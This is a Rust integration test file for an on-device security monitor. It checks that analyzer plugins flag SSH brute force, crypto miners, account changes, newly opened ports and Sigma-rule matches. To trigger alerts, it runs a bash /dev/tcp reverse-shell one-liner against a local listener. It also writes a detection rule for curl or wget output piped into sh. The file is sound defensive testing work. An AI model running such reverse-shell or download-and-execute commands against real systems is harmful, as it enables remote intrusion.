//! Analysis on the device: analyzer plugins handed the events they want as the pipeline takes
//! them in, raising Alert and Recommendation events, through the real binary and the real
//! login collector reading records written with the C library.

use edgeguard_tests::schema::edgeguard_validator;
use edgeguard_tests::utmp::record;
use edgeguard_tests::{
    builtin_plugins, edgeguard_bin, events_named as events, run_once, write_config,
};
use serde_json::Value;
use std::path::Path;
use std::process::Command;

/// The login collector on `wtmp` and `btmp` (from their start), and `login-alerts` with `rules`.
fn login_config(dir: &Path, wtmp: &Path, btmp: &Path, rules: &str) -> std::path::PathBuf {
    let plugins = builtin_plugins(dir, &["login", "login-alerts"]);
    write_config(
        dir,
        "edgeguard.toml",
        &plugins,
        &format!(
            "[[plugin]]\nname = \"login\"\nfile = \"login.wasm\"\ngrants = [\"logins\", \"log\"]\n\
             [plugin.config]\nwtmp = {wtmp:?}\nbtmp = {btmp:?}\nauth_log = \"\"\nfrom_start = true\n\
             [[plugin]]\nname = \"login-alerts\"\nfile = \"login-alerts.wasm\"\ngrants = [\"log\"]\n\
             [plugin.config]\n{rules}\n"
        ),
    )
}

fn rules_of(alerts: &[&Value]) -> Vec<String> {
    alerts
        .iter()
        .map(|a| a["Payload"][0]["Rule"].as_str().unwrap().to_owned())
        .collect()
}

fn failures(btmp: &Path, from: [u8; 4], user: &str, count: i32) {
    for i in 0..count {
        let host = format!("{}.{}.{}.{}", from[0], from[1], from[2], from[3]);
        record(
            btmp,
            libc::LOGIN_PROCESS,
            7000 + i,
            "ssh:notty",
            user,
            &host,
            Some(from),
        );
    }
}

#[test]
fn a_brute_force_is_one_alert_and_the_success_after_it_another() {
    let dir = tempfile::tempdir().unwrap();
    let (wtmp, btmp) = (dir.path().join("wtmp"), dir.path().join("btmp"));
    failures(&btmp, [203, 0, 113, 9], "root", 7);
    record(&wtmp, libc::BOOT_TIME, 0, "~", "reboot", "6.1.0", None);
    let config = login_config(dir.path(), &wtmp, &btmp, "");

    let first = run_once(&config);
    let validator = edgeguard_validator();
    for m in first
        .iter()
        .filter(|m| m["MessageSchemaVersion"] == "edgeguard/1.0")
    {
        let errors: Vec<String> = validator.iter_errors(m).map(|e| e.to_string()).collect();
        assert!(errors.is_empty(), "{errors:?} in {m}");
    }
    let logins = events(&first, "Login");
    assert_eq!(logins.len(), 7, "the collector reported every failure");
    let alerts = events(&first, "Alert");
    assert_eq!(
        rules_of(&alerts),
        ["FailedBruteForce"],
        "one alert for seven failures"
    );
    let alert = &alerts[0]["Payload"][0];
    assert_eq!(alert["Severity"], "Low");
    assert_eq!(alert["Entities"]["RemoteAddress"], "203.0.113.9");
    assert_eq!(alert["Entities"]["UserName"], "root");
    assert_eq!(alert["ExtraDetails"]["Plugin"], "login-alerts");
    assert!(
        alert["Techniques"]
            .as_array()
            .unwrap()
            .contains(&"T1110".into())
    );
    // Its evidence is the failures, by the Ids they travel with.
    let ids: Vec<&Value> = logins.iter().map(|l| &l["Id"]).collect();
    let evidence = alert["Evidence"].as_array().unwrap();
    assert_eq!(evidence.len(), 5);
    assert!(
        evidence.iter().all(|id| ids.contains(&id)),
        "{evidence:?} not among {ids:?}"
    );
    assert!(
        alert
            .get("ExtraDetails")
            .and_then(|d| d.get("UnvouchedEvidence"))
            .is_none()
    );

    // The next run resumes the analyzer's windows (its state was kept): the success from the
    // same source is a successful brute force, and the failures are not reported again.
    record(
        &wtmp,
        libc::USER_PROCESS,
        7100,
        "pts/3",
        "root",
        "203.0.113.9",
        Some([203, 0, 113, 9]),
    );
    let second = run_once(&config);
    assert_eq!(events(&second, "Login").len(), 1);
    let alerts = events(&second, "Alert");
    assert_eq!(rules_of(&alerts), ["SuccessfulBruteForce"]);
    let alert = &alerts[0]["Payload"][0];
    assert_eq!(alert["Severity"], "High");
    let success_id = &events(&second, "Login")[0]["Id"];
    let evidence = alert["Evidence"].as_array().unwrap();
    assert!(evidence.contains(success_id), "the success is cited");
    // The failures it cites came from an earlier run: the host no longer vouches for them.
    assert_eq!(alert["ExtraDetails"]["UnvouchedEvidence"], "5");

    // Nothing new: no alert.
    assert!(events(&run_once(&config), "Alert").is_empty());
}

#[test]
fn rules_are_tuned_and_turned_off_from_the_configuration() {
    let dir = tempfile::tempdir().unwrap();
    let (wtmp, btmp) = (dir.path().join("wtmp"), dir.path().join("btmp"));
    failures(&btmp, [198, 51, 100, 7], "edge", 3);
    record(&wtmp, libc::USER_PROCESS, 5001, "tty1", "pi", "", None);
    let tuned = login_config(
        dir.path(),
        &wtmp,
        &btmp,
        "FailedBruteForce = { failures = 3, window = \"2m\", severity = \"Medium\" }\n\
         SuccessfulLocalLogin = { enabled = false }",
    );
    let alerts = run_once(&tuned);
    let alerts = events(&alerts, "Alert");
    assert_eq!(rules_of(&alerts), ["FailedBruteForce"]);
    assert_eq!(alerts[0]["Payload"][0]["Severity"], "Medium");
}

#[test]
fn a_rule_configuration_it_cannot_take_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let (wtmp, btmp) = (dir.path().join("wtmp"), dir.path().join("btmp"));
    let config = login_config(
        dir.path(),
        &wtmp,
        &btmp,
        "FailedBruteForce = { failures = 1 }",
    );
    let out = Command::new(edgeguard_bin())
        .args(["--log", "warn", "run", "--once", "--config"])
        .arg(&config)
        .output()
        .unwrap();
    let log = String::from_utf8_lossy(&out.stderr);
    assert!(
        log.contains("login-alerts") && log.contains("FailedBruteForce.failures"),
        "{log}"
    );
}

#[test]
fn an_analyzer_says_what_it_is() {
    let dir = tempfile::tempdir().unwrap();
    let plugins = builtin_plugins(dir.path(), &["login-alerts"]);
    let out = Command::new(edgeguard_bin())
        .args(["plugin", "inspect", "--json"])
        .arg(plugins.join("login-alerts.wasm"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let shown: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(shown["kind"], "analyzer");
    assert_eq!(shown["wants"], serde_json::json!(["Login"]));
    assert_eq!(
        shown["events"],
        serde_json::json!(["Alert", "Recommendation"])
    );
    assert!(shown["wit"].as_str().unwrap().ends_with("@0.1.5"));
}

/// A root for the account tools (`--root`): the files they read and write, with a group `sudo`.
fn account_root(dir: &Path) -> std::path::PathBuf {
    let root = dir.join("root");
    std::fs::create_dir_all(root.join("etc")).unwrap();
    for (file, text, mode) in [
        ("passwd", "root:x:0:0:root:/root:/bin/sh\n", 0o644),
        ("group", "root:x:0:\nsudo:x:27:\n", 0o644),
        ("shadow", "root:*:19000:0:99999:7:::\n", 0o640),
        ("gshadow", "root:*::\nsudo:*::\n", 0o640),
    ] {
        let path = root.join("etc").join(file);
        std::fs::write(&path, text).unwrap();
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(mode))
            .unwrap();
    }
    root
}

fn succeeds(program: &str, args: &[&str]) {
    let out = Command::new(program).args(args).output().unwrap();
    assert!(
        out.status.success(),
        "{program} {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The ASC agents' trigger scenarios against the real kernel's process events: each raises its
/// alert once, at once (the high queue's send frequency is an hour: the alerts skip it), with
/// the process as evidence; ordinary commands raise nothing. The audit source completes the
/// command lines of processes gone before `/proc` could be read (`sh -c "echo …"` lives well
/// under a millisecond).
#[test]
fn process_alerts_are_raised_from_the_kernels_exec_events_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let plugins = builtin_plugins(dir.path(), &["process", "process-alerts"]);
    let config = edgeguard_tests::write_config_with_agent(
        dir.path(),
        "edgeguard.toml",
        &plugins,
        "audit = \"manage\"",
        "[schedule]\nfirst_collection_jitter = \"0s\"\n\
         [asc]\nhighPriorityMessageFrequency = \"PT1H\"\nlowPriorityMessageFrequency = \"PT1H\"\n\
         [[plugin]]\nname = \"process\"\nfile = \"process.wasm\"\ngrants = [\"processes\", \"log\"]\n\
         [plugin.config]\nreport_existing = false\n\
         [[plugin]]\nname = \"process-alerts\"\nfile = \"process-alerts.wasm\"\ngrants = [\"log\"]\n",
    );
    let (mut edgeguard, out, log) = edgeguard_tests::run_logged(&config, dir.path());
    let started = edgeguard_tests::poll_until(std::time::Duration::from_secs(30), || {
        let text = std::fs::read_to_string(&log).unwrap_or_default();
        text.contains("process") && text.contains("collector started")
    });
    assert!(
        started,
        "{}",
        std::fs::read_to_string(&log).unwrap_or_default()
    );
    // Until the collector follows the kernel: a miner of another name, whose alert tells.
    let marker = format!("ready-{}", std::process::id());
    let ready = edgeguard_tests::poll_until(std::time::Duration::from_secs(30), || {
        succeeds("sh", &["-c", ":", "xmrig", &marker]);
        std::fs::read_to_string(&out)
            .unwrap_or_default()
            .contains(&marker)
    });
    assert!(
        ready,
        "{}",
        std::fs::read_to_string(&log).unwrap_or_default()
    );

    let root = account_root(dir.path());
    let root_arg = root.to_str().unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();

    // The ASC trigger script's miner, and a reverse shell to a local listener.
    succeeds("sh", &["-c", "echo cpuminer-multi"]);
    let mut shell = Command::new("bash")
        .args(["-c", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
        .stdin(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let (mut peer, _) = listener.accept().unwrap();
    std::io::Write::write_all(&mut peer, b"exit\n").unwrap();
    assert!(shell.wait().unwrap().success());
    // Accounts changed on a prepared root.
    succeeds("useradd", &["--root", root_arg, "eve"]);
    succeeds("gpasswd", &["--root", root_arg, "-a", "eve", "sudo"]);
    succeeds("gpasswd", &["--root", root_arg, "-d", "eve", "sudo"]);
    succeeds("userdel", &["--root", root_arg, "eve"]);
    assert!(
        std::fs::read_to_string(root.join("etc/passwd"))
            .unwrap()
            .lines()
            .count()
            == 1
    );
    // Ordinary work.
    succeeds(
        "sh",
        &["-c", "ls /var/log | wc -l; cat /etc/hostname > /dev/null"],
    );
    succeeds("sh", &["-c", "iptables --version >/dev/null 2>&1 || true"]);

    let expected = [
        "CryptoMiner",
        "ReverseShell",
        "LocalUserAdded",
        "UserAddedToGroup",
        "UserRemovedFromGroup",
        "LocalUserDeleted",
    ];
    let ours = |alert: &Value| {
        let line = alert["Payload"][0]["Entities"]["CommandLine"]
            .as_str()
            .unwrap_or_default();
        !line.contains(&marker)
            && (line.contains(root_arg)
                || line.contains("cpuminer-multi")
                || line.contains(&port.to_string()))
    };
    let mut messages = Vec::new();
    let all_raised = edgeguard_tests::poll_until(std::time::Duration::from_secs(20), || {
        messages = std::fs::read_to_string(&out)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .collect();
        let alerts = events(&messages, "Alert");
        let raised = rules_of(&alerts.into_iter().filter(|a| ours(a)).collect::<Vec<_>>());
        expected.iter().all(|r| raised.iter().any(|x| x == r))
    });
    // SAFETY: signalling our own child.
    unsafe { libc::kill(edgeguard.id() as i32, libc::SIGTERM) };
    edgeguard.wait().unwrap();
    let alerts = events(&messages, "Alert");
    assert!(
        all_raised,
        "raised {:?}; log:\n{}",
        rules_of(&alerts),
        std::fs::read_to_string(&log).unwrap()
    );
    let ours: Vec<&Value> = alerts.iter().copied().filter(|a| ours(a)).collect();
    let mut raised = rules_of(&ours);
    raised.sort();
    let mut want: Vec<String> = expected.iter().map(|s| s.to_string()).collect();
    want.sort();
    assert_eq!(
        raised, want,
        "each once, and nothing for the ordinary commands"
    );
    assert!(
        rules_of(&alerts)
            .iter()
            .all(|r| expected.contains(&r.as_str())),
        "an alert for something else: {:?}",
        rules_of(&alerts)
    );
    // Sent at once, while the events they stand on wait for the queues' hour.
    let creates = events(&messages, "ProcessCreate");
    assert!(
        creates.is_empty(),
        "the ProcessCreate events wait for the hour's send"
    );
    for alert in &ours {
        let payload = &alert["Payload"][0];
        assert_eq!(payload["ExtraDetails"]["Plugin"], "process-alerts");
        assert_eq!(
            payload["Evidence"].as_array().unwrap().len(),
            1,
            "{payload}"
        );
        assert!(
            payload["Entities"]["ProcessId"].as_u64().is_some(),
            "{payload}"
        );
    }
    let user_added = ours
        .iter()
        .find(|a| a["Payload"][0]["Rule"] == "LocalUserAdded")
        .unwrap();
    assert_eq!(user_added["Payload"][0]["Severity"], "Medium");
    assert!(
        user_added["Payload"][0]["Description"]
            .as_str()
            .unwrap()
            .contains("eve")
    );
}

/// The ASC trigger's open port, from the real socket table: a port that starts listening on
/// every address is an Open Ports recommendation and a new-listening-port alert; a loopback
/// one is neither.
#[test]
fn a_port_opened_to_the_network_is_recommended_against_and_alerted_as_new() {
    let dir = tempfile::tempdir().unwrap();
    let plugins = builtin_plugins(dir.path(), &["network", "network-alerts"]);
    let config = write_config(
        dir.path(),
        "edgeguard.toml",
        &plugins,
        "[schedule]\nfirst_collection_jitter = \"0s\"\n\
         [asc]\nhighPriorityMessageFrequency = \"PT1S\"\nlowPriorityMessageFrequency = \"PT1S\"\n\
         [[plugin]]\nname = \"network\"\nfile = \"network.wasm\"\ngrants = [\"sockets\", \"log\"]\ninterval = \"1s\"\n\
         [[plugin]]\nname = \"network-alerts\"\nfile = \"network-alerts.wasm\"\ngrants = [\"log\"]\n",
    );
    let (mut edgeguard, out, log) = edgeguard_tests::run_logged(&config, dir.path());
    let read = || -> Vec<Value> {
        std::fs::read_to_string(&out)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    };
    let baseline = edgeguard_tests::poll_until(std::time::Duration::from_secs(30), || {
        !events(&read(), "ListeningPorts").is_empty()
    });
    assert!(
        baseline,
        "{}",
        std::fs::read_to_string(&log).unwrap_or_default()
    );
    let exposed = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    let local = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let (port, local_port) = (
        exposed.local_addr().unwrap().port(),
        local.local_addr().unwrap().port(),
    );
    // Ports travel as text, as the ASC schemas write them.
    let about = |finding: &Value, port: u16| {
        finding["Payload"][0]["Entities"]["LocalPort"]
            .as_str()
            .and_then(|p| p.parse::<u16>().ok())
            == Some(port)
    };
    let mut messages = Vec::new();
    let found = edgeguard_tests::poll_until(std::time::Duration::from_secs(30), || {
        messages = read();
        events(&messages, "Recommendation")
            .iter()
            .any(|r| about(r, port))
            && events(&messages, "Alert").iter().any(|a| about(a, port))
    });
    // SAFETY: signalling our own child.
    unsafe { libc::kill(edgeguard.id() as i32, libc::SIGTERM) };
    edgeguard.wait().unwrap();
    assert!(found, "{}", std::fs::read_to_string(&log).unwrap());
    let recommendation = events(&messages, "Recommendation")
        .into_iter()
        .find(|r| about(r, port))
        .unwrap();
    let payload = &recommendation["Payload"][0];
    assert_eq!(payload["Rule"], "OpenPorts");
    assert_eq!(payload["Severity"], "Medium");
    assert_eq!(
        payload["ExtraDetails"]["RecommendationType"],
        "IoT_OpenPorts"
    );
    let mine = std::fs::read_link("/proc/self/exe").unwrap();
    assert_eq!(
        payload["Entities"]["Executable"],
        mine.to_str().unwrap(),
        "{payload}"
    );
    let alerts: Vec<&Value> = events(&messages, "Alert")
        .into_iter()
        .filter(|a| about(a, port))
        .collect();
    assert_eq!(rules_of(&alerts), ["NewListeningPort"]);
    let all = [
        events(&messages, "Alert"),
        events(&messages, "Recommendation"),
    ]
    .concat();
    assert!(
        !all.iter().any(|f| about(f, local_port)),
        "a loopback listener is not exposed"
    );
    drop((exposed, local));
}

/// Sigma rules the project writes, from a directory read through the `filesystem` grant, on
/// the real process collector: the rule raises for the command line it targets, once, and for
/// nothing else; a rule for another product is reported as skipped.
#[test]
fn sigma_rules_from_a_directory_raise_for_what_they_target_and_nothing_else() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("sigma");
    std::fs::create_dir_all(rules.join("linux")).unwrap();
    let tag = format!("eg-sigma-{}", std::process::id());
    std::fs::write(
        rules.join("linux/download_into_shell.yml"),
        format!(
            "title: Download piped into a shell ({tag})\nid: 7d1e0a52-0000-4000-8000-00000000beef\nstatus: test\nlevel: high\n\
             tags: [attack.execution, attack.t1059.004]\nlogsource: {{category: process_creation, product: linux}}\n\
             detection:\n  download: {{CommandLine|contains: ['curl ', 'wget ']}}\n  shell: {{CommandLine|contains|all: ['| sh', '{tag}']}}\n  condition: download and shell\n"
        ),
    )
    .unwrap();
    std::fs::write(
        rules.join("windows.yml"),
        "title: Windows only\nlogsource: {category: process_creation, product: windows}\ndetection: {s: {Image|endswith: '\\\\cmd.exe'}, condition: s}\n",
    )
    .unwrap();
    let plugins = builtin_plugins(dir.path(), &["process", "sigma"]);
    let config = edgeguard_tests::write_config_with_agent(
        dir.path(),
        "edgeguard.toml",
        &plugins,
        "audit = \"manage\"",
        &format!(
            "[schedule]\nfirst_collection_jitter = \"0s\"\n\
             [asc]\nhighPriorityMessageFrequency = \"PT1H\"\nlowPriorityMessageFrequency = \"PT1H\"\n\
             [[plugin]]\nname = \"process\"\nfile = \"process.wasm\"\ngrants = [\"processes\", \"log\"]\n\
             [plugin.config]\nreport_existing = false\n\
             [[plugin]]\nname = \"sigma\"\nfile = \"sigma.wasm\"\ngrants = [\"log\", \"filesystem\"]\ndirs = [{rules:?}]\n\
             [plugin.config]\ndirs = [{rules:?}]\n"
        ),
    );
    let (mut edgeguard, out, log) = edgeguard_tests::run_logged(&config, dir.path());
    let loaded = edgeguard_tests::poll_until(std::time::Duration::from_secs(30), || {
        std::fs::read_to_string(&log)
            .unwrap_or_default()
            .contains("1 Sigma rules loaded of 2 read")
    });
    assert!(
        loaded,
        "{}",
        std::fs::read_to_string(&log).unwrap_or_default()
    );
    // Harmless lines of the shapes the rule reads: the first matches, the others each miss a part.
    let alerts_for = |messages: &[Value]| -> Vec<Value> {
        events(messages, "Alert")
            .into_iter()
            .filter(|a| {
                a["Payload"][0]["Title"]
                    .as_str()
                    .is_some_and(|t| t.contains(&tag))
            })
            .cloned()
            .collect()
    };
    let mut messages: Vec<Value> = Vec::new();
    let raised = edgeguard_tests::poll_until(std::time::Duration::from_secs(30), || {
        succeeds(
            "sh",
            &["-c", &format!(": curl http://127.0.0.1:9/{tag} | sh")],
        );
        succeeds(
            "sh",
            &[
                "-c",
                &format!(": curl http://127.0.0.1:9/{tag} > /dev/null"),
            ],
        );
        succeeds("sh", &["-c", &format!(": cat {tag} | sh")]);
        messages = std::fs::read_to_string(&out)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .collect();
        !alerts_for(&messages).is_empty()
    });
    // Time for a second alert to show, were suppression not holding.
    std::thread::sleep(std::time::Duration::from_secs(2));
    messages = std::fs::read_to_string(&out)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .collect();
    // SAFETY: signalling our own child.
    unsafe { libc::kill(edgeguard.id() as i32, libc::SIGTERM) };
    edgeguard.wait().unwrap();
    assert!(
        raised,
        "{}",
        std::fs::read_to_string(&log).unwrap_or_default()
    );
    let alerts = alerts_for(&messages);
    assert_eq!(
        alerts.len(),
        1,
        "one alert, the same process quiet after it: {alerts:#?}"
    );
    let payload = &alerts[0]["Payload"][0];
    assert_eq!(payload["Severity"], "High");
    assert_eq!(payload["ExtraDetails"]["Plugin"], "sigma");
    assert_eq!(
        payload["ExtraDetails"]["SigmaRule"],
        "7d1e0a52-0000-4000-8000-00000000beef"
    );
    assert_eq!(
        payload["Techniques"],
        serde_json::json!(["T1059.004"]),
        "{payload}"
    );
    let line = payload["Entities"]["CommandLine"].as_str().unwrap();
    assert!(line.contains("| sh") && line.contains("curl"), "{line}");
    assert_eq!(payload["Evidence"].as_array().unwrap().len(), 1);
    let validator = edgeguard_validator();
    for m in messages
        .iter()
        .filter(|m| m["MessageSchemaVersion"] == "edgeguard/1.0")
    {
        let errors: Vec<String> = validator.iter_errors(m).map(|e| e.to_string()).collect();
        assert!(errors.is_empty(), "{errors:?} in {m}");
    }
}
